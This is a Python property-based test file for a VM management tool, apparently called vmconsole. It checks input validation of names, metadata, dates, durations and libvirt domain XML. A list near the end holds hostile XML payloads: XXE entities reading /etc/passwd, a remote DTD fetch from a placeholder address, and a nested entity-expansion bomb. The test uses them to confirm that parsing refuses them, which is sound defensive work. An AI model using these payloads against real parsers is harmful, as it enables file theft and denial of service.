"""Property-based tests of everything an operator or the cluster hands vmconsole as text: VM names,
metadata keys and values, snapshot names, dates, counts and durations, domain XML.

Each input is either accepted and comes back exactly (or as the documented normal form), or refused
with a ValidationError naming the field, whose message never carries a raw control character. No
input ever raises anything else, and hostile XML never resolves an entity nor reaches a file.
"""

from __future__ import annotations

import re
import time
import uuid as uuidlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from vmconsole.domain import domain_xml, naming, units, validate, xmlsafe
from vmconsole.domain.errors import ValidationError
from vmconsole.domain.settings import RESERVED_KEYS

# Example counts: modest, so the whole file runs in a few seconds (each is listed in the README).
FAST = settings(max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
XML = settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])

# Characters that break naive checks: NUL, ESC, a lone surrogate (what Python makes of an argv byte
# that is not UTF-8), an invisible space, a non-ASCII letter and digit, RBD's and the shell's separators.
TRICKY = ["\x00", "\x1b", "\n", "\t", " ", "\udcff", "\ud800", "\u200b", "é", "²", "٣", "/", "@", "-", "_", ".", ":"]
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
hostile_chars = st.one_of(st.sampled_from(list(ALNUM)), st.sampled_from(TRICKY), st.characters())
hostile_text = st.text(alphabet=hostile_chars, max_size=80)
# the prefixes and names the rules treat specially, with hostile tails
special_text = st.builds(
    lambda head, tail: head + tail,
    st.sampled_from(["", "xml", "vm_name", "_base_xml", "_x", "vmconsole", "VMConsole", "vmconsolenew", "1", "a"]),
    hostile_text,
)
any_text = st.one_of(hostile_text, special_text, st.text(alphabet=ALNUM, min_size=40, max_size=260))
not_text = st.one_of(st.none(), st.integers(), st.floats(), st.binary(max_size=8), st.lists(st.integers(), max_size=2))


def refused_cleanly(error: ValidationError, field: str) -> None:
    """A specific refusal: the field named, and a message that cannot repaint a terminal."""
    assert error.field == field, (error.field, error.message)
    assert error.message
    assert all(ch.isprintable() for ch in error.message), repr(error.message)


def check(validator: Any, value: object, field: str) -> tuple[bool, Any]:
    """(accepted, result) of ``validator(value)``; any exception but a clean ValidationError fails."""
    try:
        return True, validator(value)
    except ValidationError as error:
        refused_cleanly(error, field)
        return False, None


# --- VM names ----------------------------------------------------------------------------------------


def _new_name_ok(text: str) -> bool:
    return (
        re.fullmatch(r"[A-Za-z][A-Za-z0-9]{0,47}", text) is not None
        and text != "xml"
        and not text.lower().startswith("vmconsole")
    )


@FAST
@given(any_text)
def test_vm_names_are_accepted_exactly_when_the_rule_holds(text: str) -> None:
    accepted, result = check(validate.vm_name, text, "name")
    assert accepted == _new_name_ok(text), text
    if accepted:
        assert result == text
        # every name derived from it leads back to it
        assert naming.vm_of_image(naming.system_image(text)) == text
        assert naming.data_index(text, naming.data_image(text, 7)) == 7
        assert len(f"cli-prefer-{text}") <= 64


@FAST
@given(any_text)
def test_existing_vm_names_are_what_vm_manager_accepts(text: str) -> None:
    accepted, result = check(validate.existing_vm_name, text, "name")
    expected = re.fullmatch(r"[A-Za-z0-9]{1,200}", text) is not None and not naming.is_temporary(text)
    assert accepted == expected, text
    if accepted:
        assert result == text
    if _new_name_ok(text):
        assert accepted, "a name vmconsole may create is one it can operate"


@FAST
@given(not_text)
def test_a_name_that_is_not_text_is_refused(value: object) -> None:
    for validator in (validate.vm_name, validate.existing_vm_name):
        assert check(validator, value, "name") == (False, None)


# --- metadata ----------------------------------------------------------------------------------------


@FAST
@given(any_text)
def test_metadata_keys_are_accepted_exactly_when_the_rule_holds(text: str) -> None:
    accepted, result = check(validate.metadata_key, text, "key")
    assert accepted == (re.fullmatch(r"[A-Za-z0-9]{1,64}", text) is not None and text not in RESERVED_KEYS), text
    if accepted:
        assert result == text


@FAST
@example("\udcff")  # what Python makes of `metadata set VM k=$'\\xff'` (argv that is not UTF-8)
@given(st.one_of(any_text, st.text(max_size=200), st.just("é" * 32768), st.just("a" * 65536), st.just("a" * 65537)))
def test_metadata_values_round_trip_or_are_refused(text: str) -> None:
    accepted, result = check(validate.metadata_value, text, "value")
    storable = "\x00" not in text and not any(0xD800 <= ord(ch) <= 0xDFFF for ch in text)
    assert accepted == (storable and len(text.encode("utf-8")) <= validate.METADATA_VALUE_MAX_BYTES), repr(text)
    if accepted:
        assert result == text
        assert result.encode("utf-8").decode("utf-8") == text  # what RBD stores is what comes back


@FAST
@given(not_text)
def test_metadata_that_is_not_text_is_refused(value: object) -> None:
    assert check(validate.metadata_key, value, "key") == (False, None)
    assert check(validate.metadata_value, value, "value") == (False, None)


# --- snapshot names ------------------------------------------------------------------------------------


@FAST
@given(any_text)
def test_snapshot_names_are_accepted_exactly_when_the_rule_holds(text: str) -> None:
    accepted, result = check(validate.snapshot_name, text, "snapshot")
    assert accepted == (re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,63}", text) is not None), text
    if accepted:
        assert result == text
        assert "@" not in text and "/" not in text  # never breaks RBD's pool/image@snap


@FAST
@given(st.datetimes(timezones=st.just(UTC)))
def test_default_snapshot_names_are_valid_names(moment: datetime) -> None:
    name = validate.default_snapshot_name(moment)
    assert validate.snapshot_name(name) == name


# --- dates ----------------------------------------------------------------------------------------------

# offsets in whole minutes, as ISO 8601 writes them (within a day, as Python allows)
offsets = st.integers(min_value=-(23 * 60 + 59), max_value=23 * 60 + 59).map(lambda m: timezone(timedelta(minutes=m)))
# a day's margin from datetime's own limits, so that no offset takes the instant out of range
moments = st.datetimes(min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30))


@FAST
@given(moments, offsets)
def test_an_iso_date_with_an_offset_round_trips_exactly(moment: datetime, offset: timezone) -> None:
    aware = moment.replace(tzinfo=offset)
    parsed = validate.parse_datetime(aware.isoformat())
    assert parsed.value == aware and parsed.value.utcoffset() == offset.utcoffset(None)
    assert not parsed.assumed_local


@FAST
@given(moments, st.sampled_from(["%Y-%m-%dT%H:%M:%S", "%Y-%m-%d %H:%M:%S", "%d/%m/%Y %H:%M:%S", "%Y-%m-%d %H:%M"]))
def test_a_naive_date_is_read_in_the_zone_given(moment: datetime, layout: str) -> None:
    if moment.year < 1000:
        moment = moment.replace(year=moment.year + 1000)  # strftime pads years below 1000 inconsistently
    text = moment.strftime(layout)
    parsed = validate.parse_datetime(text, UTC)
    assert parsed.assumed_local
    assert parsed.value == datetime.strptime(text, layout).replace(tzinfo=UTC)


@FAST
@given(st.integers(min_value=0, max_value=253402300799))
def test_an_epoch_date_round_trips(seconds: int) -> None:
    parsed = validate.parse_datetime(f"@{seconds}")
    assert parsed.value.timestamp() == seconds and parsed.value.tzinfo is UTC


@FAST
@given(
    st.one_of(
        any_text,
        st.from_regex(
            r"\A[0-9]{4}-[0-9]{2}-[0-9]{2}([T ][0-9]{2}:[0-9]{2}(:[0-9]{2})?([Zz]|[+-][0-9]{2}:?[0-9]{2})?)?\Z"
        ),
        st.from_regex(r"\A[0-9]{2}/[0-9]{2}/[0-9]{4}( [0-9]{2}:[0-9]{2})?\Z"),
        st.from_regex(r"\A@[0-9]{1,14}\Z"),
    ),
    st.sampled_from([None, UTC, timezone(timedelta(hours=14)), timezone(timedelta(hours=-12))]),
)
@example("0001-01-01T00:00", None)  # the calendar's first day, read as local time
@example("0001-01-01", None)
@example("9999-12-31 23:59", None)
def test_any_date_text_is_a_date_or_a_clean_refusal(text: str, zone: timezone | None) -> None:
    accepted, result = check(lambda value: validate.parse_datetime(value, zone), text, "before")
    if accepted:
        assert result.value.tzinfo is not None and result.value.utcoffset() is not None


# --- counts, timeouts and durations -------------------------------------------------------------------

UNIT_SECONDS = {"": 1, "s": 1, "sec": 1, "m": 60, "min": 60, "h": 3600, "hr": 3600}


@FAST
@given(st.integers(min_value=0, max_value=10**20), st.sampled_from(sorted(units.SECONDS_PER_UNIT)), st.booleans())
def test_a_duration_written_as_vmconsole_writes_it_round_trips(amount: int, unit: str, upper: bool) -> None:
    written = f"{amount}{unit.upper() if upper else unit}"
    lenient = units.parse_duration(written)
    strict = units.parse_duration(written, strict=True)
    if len(str(amount)) > units.MAX_DIGITS:
        assert lenient is None and strict is None
        return
    assert lenient == units.Duration(amount, unit)
    assert strict == (lenient if not upper or unit == "" else None)
    assert units.duration_seconds(written, -1.0) == amount * units.SECONDS_PER_UNIT[unit or "s"]


@FAST
@given(any_text)
def test_any_text_is_a_duration_or_none_never_an_error(text: str) -> None:
    duration = units.parse_duration(text)
    assert units.duration_seconds(text, -1.0) == (-1.0 if duration is None else duration.seconds())
    assert isinstance(units.duration_ms(text), int)


@FAST
@given(st.integers(min_value=-(10**25), max_value=10**25), st.sampled_from(sorted(UNIT_SECONDS)))
def test_timeouts_are_whole_seconds_up_to_a_day(amount: int, unit: str) -> None:
    seconds = amount * UNIT_SECONDS[unit]
    expected = str(seconds) if 1 <= seconds <= validate.TIMEOUT_MAX_SECONDS else None
    if unit == "":
        assert check(lambda v: validate.timeout_seconds(v, "stop_timeout"), amount, "stop_timeout")[1] == expected
    text = f"{amount}{unit}"
    if amount < 0:
        expected = None  # a sign is not part of a timeout
    assert check(lambda v: validate.timeout_seconds(v, "stop_timeout"), text, "stop_timeout")[1] == expected


@FAST
@given(st.one_of(any_text, not_text, st.integers(min_value=-(10**30), max_value=10**30)))
def test_counts_and_timeouts_never_raise_anything_else(value: object) -> None:
    accepted, result = check(lambda v: validate.count(v, "oldest"), value, "oldest")
    if accepted:
        assert isinstance(result, int) and 0 <= result < 10**validate.COUNT_MAX_DIGITS
    accepted, result = check(lambda v: validate.timeout_seconds(v, "stop_timeout"), value, "stop_timeout")
    if accepted:
        assert 1 <= int(result) <= validate.TIMEOUT_MAX_SECONDS


# --- domain XML -------------------------------------------------------------------------------------------

# What XML 1.0 can carry (and lxml builds): no control characters but tab and newline (a carriage return
# is normalised away by any parser), no surrogates, no U+FFFE/U+FFFF.
xml_chars = st.characters(
    codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"
) | st.sampled_from(["\t", "\n", "<", ">", "&", '"', "'", "]"])
xml_text = st.text(alphabet=xml_chars, max_size=12)
tags = st.sampled_from(["memory", "vcpu", "os", "type", "boot", "title", "description", "metadata", "features", "x"])
attributes = st.dictionaries(st.sampled_from(["unit", "dev", "type", "name", "file"]), xml_text, max_size=2)


def _element(tag: str, attrs: dict[str, str], text: str, children: list[etree._Element]) -> etree._Element:
    element = etree.Element(tag, attrs)
    element.text = text or None
    element.extend(children)
    return element


elements = st.recursive(
    st.builds(_element, tags, attributes, xml_text, st.just([])),
    lambda inner: st.builds(_element, tags, attributes, xml_text, st.lists(inner, max_size=3)),
    max_leaves=12,
)


def _domain(children: list[etree._Element], devices: list[etree._Element]) -> str:
    root = etree.Element("domain", type="kvm")
    root.extend(children)
    device_list = etree.SubElement(root, "devices")
    device_list.extend(devices)
    return etree.tostring(root, encoding="unicode")


cdrom = st.builds(
    lambda dev: etree.fromstring(f"<disk type='file' device='cdrom'><target dev='hd{dev}' bus='ide'/></disk>"),
    st.sampled_from("cd"),
)
devices = st.lists(
    st.one_of(
        cdrom,
        st.just(etree.fromstring("<emulator>/usr/bin/qemu-system-x86_64</emulator>")),
        st.just(etree.fromstring("<serial type='pty'><log file='/var/log/old-serial.log'/></serial>")),
    ),
    max_size=3,
    unique_by=lambda e: etree.tostring(e),
)
bases = st.builds(_domain, st.lists(elements, max_size=4), devices)


@XML
@given(elements)
def test_well_formed_xml_is_read_back_exactly(element: etree._Element) -> None:
    text = etree.tostring(element, encoding="unicode")
    assert xmlsafe.tostring(xmlsafe.parse(text)) == text
    assert xmlsafe.tostring(xmlsafe.parse(text.encode())) == text


@XML
@given(
    bases,
    st.text(alphabet=ALNUM, min_size=1, max_size=48),
    st.uuids(),
    st.integers(min_value=0, max_value=4),
    st.sampled_from(sorted(domain_xml.BUS_DEVICE_PREFIX)),
)
def test_a_domain_built_from_a_base_reads_back_what_was_given(
    base: str, name: str, uuid: uuidlib.UUID, data_disks: int, bus: str
) -> None:
    images = [f"data_{name}_{i}" for i in range(data_disks)]
    try:
        built = domain_xml.build_domain_xml(
            base,
            name=name,
            uuid=str(uuid).upper(),
            pool="rbd",
            namespace="",
            system_image=f"system_{name}",
            data_images=images,
            disk_bus=bus,
            monitors=[("10.0.0.1", 6789)],
            auth_user="libvirt",
            secret_uuid=str(uuidlib.uuid4()),
        )
    except ValidationError as error:
        # only a bus with too few device names for the disks (IDE: four, two of which a cdrom may take)
        refused_cleanly(error, "disk_bus")
        assert bus == "ide"
        return
    assert domain_xml.domain_name(built) == name
    assert domain_xml.domain_uuid(built) == str(uuid)
    assert domain_xml.rbd_disk_images(built) == [f"rbd/system_{name}", *(f"rbd/{i}" for i in images)]
    # the comparison forms are stable: same domain, same text, no diff, no restart
    canonical = domain_xml.canonical_xml(built)
    assert domain_xml.canonical_xml(canonical) == canonical
    assert domain_xml.xml_diff(built, canonical) == []
    assert not domain_xml.needs_restart(built, canonical)
    assert domain_xml.domain_uuid(domain_xml.strip_uuid(built)) is None
    # what a clone does to per-VM paths is undone by the reverse rename
    renamed = domain_xml.rename_vm_paths(domain_xml.rename_vm_paths(built, "old", "0ld0"), "0ld0", "old")
    assert domain_xml.canonical_xml(renamed) == canonical


READERS: list[Callable[[str | bytes], object]] = [
    xmlsafe.parse,
    domain_xml.check_base_xml,
    domain_xml.domain_uuid,
    domain_xml.domain_name,
    domain_xml.strip_uuid,
    domain_xml.rbd_disk_images,
    domain_xml.canonical_xml,
    domain_xml.host_reaching,
    domain_xml.detach_local_disks,
    lambda text: domain_xml.rename_vm_paths(text, "a", "b"),
    lambda text: domain_xml.needs_restart(text, "<domain><devices/></domain>"),
]

SECRET_FILE = "/etc/passwd"
DECLARATIONS = [
    f'<!DOCTYPE domain [<!ENTITY e SYSTEM "file://{SECRET_FILE}">]>',
    f'<!DOCTYPE domain SYSTEM "file://{SECRET_FILE}">',
    '<!DOCTYPE domain [<!ENTITY % p SYSTEM "http://203.0.113.1/evil.dtd"> %p;]>',
    '<!DOCTYPE domain [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY e "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE domain [<!ENTITY e "<devices/>">]>',
    '<!doctype domain [<!ENTITY e "x">]>',
]


@XML
@given(
    st.sampled_from(DECLARATIONS),
    bases,
    st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-32", None]),
    st.integers(min_value=0, max_value=len(READERS) - 1),
)
def test_hostile_xml_never_resolves_an_entity(declaration: str, base: str, encoding: str | None, reader: int) -> None:
    body = base.replace("<devices>", "<devices>&e;", 1).replace("<devices/>", "<devices>&e;</devices>", 1)
    text = declaration + body
    data: str | bytes = text
    if encoding is not None:
        data = f'<?xml version="1.0" encoding="{encoding}"?>\n{text}'.encode(encoding)
    started = time.perf_counter()
    with pytest.raises(ValidationError) as caught:
        READERS[reader](data)
    assert time.perf_counter() - started < 1.0
    error = caught.value
    assert error.field in ("xml", None), error.field
    assert all(ch.isprintable() or ch == "\n" for ch in error.message), repr(error.message)
    assert "root:x:" not in str(error), "a file of the host reached the message"
    assert "aaaaaaaaaaaaaaaaaaaa" not in str(error), "an entity was expanded"


@XML
@given(
    st.one_of(
        st.text(max_size=200), st.binary(max_size=200), st.text(alphabet=st.sampled_from("<>/=&;'\"!?[]-adeimnostvx "))
    )
)
@example("<domain>\udcff<devices/></domain>")
def test_any_text_is_xml_or_a_clean_refusal(data: str | bytes) -> None:
    for reader in (xmlsafe.parse, domain_xml.check_base_xml, domain_xml.canonical_xml, domain_xml.host_reaching):
        try:
            reader(data)
        except ValidationError as error:
            # libxml2's own words may run over two lines; nothing else of the input's bytes comes raw
            assert all(ch.isprintable() or ch == "\n" for ch in error.message), repr(error.message)


@FAST
@given(any_text, any_text)
def test_a_data_disk_index_is_read_exactly_as_the_pattern_reads_it(vm: str, image: str) -> None:
    match = re.fullmatch(rf"data_{re.escape(vm)}_([0-9]+)", image)
    assert naming.data_index(vm, image) == (int(match.group(1)) if match else None), (vm, image)
    assert naming.data_index(vm, f"data_{vm}_12") == 12
    assert naming.data_index(vm, f"data_{vm}_") is None
    assert naming.data_index(vm, f"data_{vm}_1²") is None
